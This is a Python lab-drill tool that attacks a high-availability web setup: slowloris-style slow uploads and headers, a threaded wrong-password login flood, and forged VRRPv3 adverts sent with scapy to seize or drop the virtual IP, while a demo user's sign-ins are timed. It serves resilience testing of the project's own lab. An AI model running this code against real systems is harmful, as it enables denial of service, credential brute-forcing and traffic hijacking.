"""Hostile and merely busy clients, for the drills' abuse scenarios. Runs
inside the lab's client namespace, from an address of its own (another host
on the client network), while a real user signs in through the VIP from the
client's own address every second:

    python -m hapair.drill.attack --targets 10.54.0.100,10.54.0.10,10.54.0.11 \\
        --source 10.54.0.253 --seconds 60 slow --bodies 100 --headers 100

    ... logins --per-minute 1000    (the user's password in ROOMBOOK_PASSWORD)

    ... vrrp --vrid 51 --node 10.54.0.10,192.168.57.102 --node 10.54.0.11,192.168.57.103

`slow`: uploads that declare a 512 KiB body and send it at 1 KiB a second,
and requests whose headers come one line every few seconds, spread over the
targets, each reopened as soon as it ends. `logins`: wrong passwords at the
given rate against every target. `vrrp`: forged VRRPv3 adverts for the VIP's
router id (scapy, as raw frames to each node's MAC), each node's "from" the
other's public and interconnect addresses, to its public and interconnect
addresses, priority 0 (the holder resigning: the other would take the VIP)
and 255 (the other claiming it: the holder would yield), ten rounds a second.
Prints one JSON summary when done: what the targets answered, and every
sign-in of the real user (seconds, status)."""

from __future__ import annotations

import argparse
import functools
import http.client
import json
import os
import socket
import ssl
import threading
import time
from collections import Counter
from typing import Any

# Under the default web.limits.body_max_bytes (a larger one is refused at
# once, 413): Apache must read it, and a slow one must not hold a worker of
# the application's meanwhile.
BODY_DECLARED = 512 * 1024
BODY_FIRST = 16 * 1024
BODY_TRICKLE = 1024  # bytes a second, above Apache's default floor of 500
HEADER_EVERY_S = 4.0
FLOOD_THREADS = 40  # per target


@functools.cache
def _context() -> ssl.SSLContext:
    """The attacker does not care whose certificate it is. Made once: a
    context loads the system's CA store, and one per try made the attacker
    itself take 1.5 of the lab host's 2 cores."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


class Tally:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.seen: Counter[str] = Counter()

    def add(self, what: str) -> None:
        with self.lock:
            self.seen[what] += 1


def _open(target: str, port: int, source: str, tls: bool) -> socket.socket:
    raw = socket.create_connection((target, port), timeout=2, source_address=(source, 0))
    return _context().wrap_socket(raw) if tls else raw


def _answer(sock: socket.socket) -> str:
    """The status code of whatever the server said first ("closed": nothing)."""
    try:
        sock.settimeout(0.01)
        data = sock.recv(64)
    except (TimeoutError, ssl.SSLWantReadError, BlockingIOError):
        return ""
    except OSError:
        return "closed"
    if not data:
        return "closed"
    parts = data.split(b" ", 2)
    return parts[1].decode(errors="replace") if len(parts) > 1 else "closed"


def slow_one(kind: str, target: str, port: int, source: str, tls: bool, until: float,
             tally: Tally) -> None:
    """One slow client, reopened whenever the server ends it, until `until`."""
    while time.monotonic() < until:
        try:
            sock = _open(target, port, source, tls)
        except OSError as exc:
            tally.add(f"{target} {kind}: not connected ({type(exc).__name__})")
            time.sleep(1)
            continue
        tally.add(f"{target} {kind}: connected")
        try:
            if kind == "body":
                sock.sendall(f"POST /login HTTP/1.1\r\nHost: {target}\r\nContent-Type: "
                             f"application/x-www-form-urlencoded\r\nContent-Length: "
                             f"{BODY_DECLARED}\r\n\r\n".encode() + b"a" * BODY_FIRST)
            else:
                sock.sendall(f"GET /login HTTP/1.1\r\nHost: {target}\r\n".encode())
            answer = ""
            while time.monotonic() < until and not answer:
                time.sleep(1 if kind == "body" else HEADER_EVERY_S)
                answer = _answer(sock)
                if not answer:
                    sock.sendall(b"a" * BODY_TRICKLE if kind == "body" else b"X-Slow: 1\r\n")
            if answer:
                tally.add(f"{target} {kind}: ended by the server ({answer})")
        except OSError:
            tally.add(f"{target} {kind}: ended by the server (reset)")
        finally:
            sock.close()


def login_flood(target: str, port: int, source: str, tls: bool, per_s: float, until: float,
                email: str, tally: Tally) -> None:
    """Wrong passwords at per_s a second against one target."""
    n = 0
    start = time.monotonic()
    while time.monotonic() < until:
        n += 1
        body = json.dumps({"email": email, "password": f"wrong guess {n}"})
        try:
            conn = (http.client.HTTPSConnection(target, port, timeout=2, context=_context(),
                                                source_address=(source, 0)) if tls else
                    http.client.HTTPConnection(target, port, timeout=2,
                                               source_address=(source, 0)))
            conn.request("POST", "/api/login", body, {"Content-Type": "application/json"})
            status = str(conn.getresponse().status)
            conn.close()
        except (OSError, http.client.HTTPException) as exc:
            status = f"no answer ({type(exc).__name__})"
        tally.add(f"{target} login: {status}")
        time.sleep(max(0.0, start + n / per_s - time.monotonic()))


def forge_adverts(vip: str, vrid: int, nodes: list[tuple[str, str]], per_s: float,
                  until: float, tally: Tally) -> None:
    """nodes: (public, interconnect) addresses of each node."""
    from scapy.all import IP, Ether, conf, getmacbyip, sendp  # type: ignore[attr-defined]
    from scapy.layers.vrrp import VRRPv3

    frames, iface = [], None
    for a_pub, a_ic in nodes:
        for b_pub, b_ic in nodes:
            if a_pub == b_pub:
                continue
            mac = getmacbyip(b_pub)
            if mac is None:
                tally.add(f"{b_pub}: no ARP answer, not attacked")
                continue
            iface = conf.route.route(b_pub)[0]
            frames += [Ether(dst=mac) / IP(src=src, dst=dst, ttl=255, proto=112)
                       / VRRPv3(vrid=vrid, priority=prio, ipcount=1, adv=10, addrlist=[vip])
                       for src in (a_pub, a_ic) for dst in (b_pub, b_ic) for prio in (0, 255)]
    sent = 0
    while frames and time.monotonic() < until:
        began = time.monotonic()
        sendp(frames, iface=iface, verbose=False)
        sent += len(frames)
        time.sleep(max(0.0, began + 1 / per_s - time.monotonic()))
    with tally.lock:
        tally.seen["forged adverts sent"] += sent


def real_user(base: str, email: str, password: str, ca: str, until: float,
              out: list[list[Any]]) -> None:
    """The demo user signs in through the VIP every second: (seconds, status)."""
    host = base.split("://", 1)[1]
    tls = base.startswith("https")
    context = ssl.create_default_context(cafile=ca or None) if tls else None
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            conn = (http.client.HTTPSConnection(host, timeout=5, context=context) if tls
                    else http.client.HTTPConnection(host, timeout=5))
            conn.request("POST", "/api/login", json.dumps({"email": email, "password": password}),
                         {"Content-Type": "application/json"})
            status: int | str = conn.getresponse().status
            conn.close()
        except (OSError, http.client.HTTPException) as exc:
            status = type(exc).__name__
        out.append([round(time.monotonic() - began, 3), status])
        time.sleep(max(0.0, began + 1.0 - time.monotonic()))


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--targets", required=True, help="addresses, comma-separated")
    ap.add_argument("--vip", required=True)
    ap.add_argument("--source", required=True, help="the attacker's own address")
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--port", type=int, default=0, help="default: 443 with --tls, else 80")
    ap.add_argument("--ca", default="")
    ap.add_argument("--email", default="demo@roombook.test")
    sub = ap.add_subparsers(dest="kind", required=True)
    slow = sub.add_parser("slow")
    slow.add_argument("--bodies", type=int, default=100)
    slow.add_argument("--headers", type=int, default=100)
    flood = sub.add_parser("logins")
    flood.add_argument("--per-minute", type=int, default=1000, help="per target")
    vrrp = sub.add_parser("vrrp")
    vrrp.add_argument("--vrid", type=int, required=True)
    vrrp.add_argument("--node", action="append", required=True,
                      help="a node's public,interconnect addresses (repeated)")
    vrrp.add_argument("--rounds-per-second", type=float, default=10)
    a = ap.parse_args(argv)
    targets = a.targets.split(",")
    port = a.port or (443 if a.tls else 80)
    until = time.monotonic() + a.seconds
    tally, signins = Tally(), []  # type: ignore[var-annotated]
    jobs: list[threading.Thread] = []
    if a.kind == "slow":
        for i in range(a.bodies + a.headers):
            kind = "body" if i < a.bodies else "header"
            jobs.append(threading.Thread(target=slow_one, daemon=True, args=(
                kind, targets[i % len(targets)], port, a.source, a.tls, until, tally)))
    elif a.kind == "vrrp":
        nodes = [tuple(n.split(",", 1)) for n in a.node]
        jobs.append(threading.Thread(target=forge_adverts, daemon=True, args=(
            a.vip, a.vrid, nodes, a.rounds_per_second, until, tally)))
    else:
        for target in targets:
            # Many at once: an unanswered try (a dropped SYN waits out its
            # 2 s timeout) does not slow the rate.
            for _ in range(FLOOD_THREADS):
                jobs.append(threading.Thread(target=login_flood, daemon=True, args=(
                    target, port, a.source, a.tls, a.per_minute / 60 / FLOOD_THREADS, until,
                    a.email, tally)))
    base = f"{'https' if a.tls else 'http'}://{a.vip}"
    jobs.append(threading.Thread(target=real_user, daemon=True, args=(
        base, a.email, os.environ.get("ROOMBOOK_PASSWORD", ""), a.ca, until, signins)))
    print("ready", flush=True)
    for t in jobs:
        t.start()
    for t in jobs:
        t.join(timeout=max(0.0, until - time.monotonic()) + 10)
    print(json.dumps({"seen": dict(sorted(tally.seen.items())), "signins": signins}),
          flush=True)


if __name__ == "__main__":
    main()
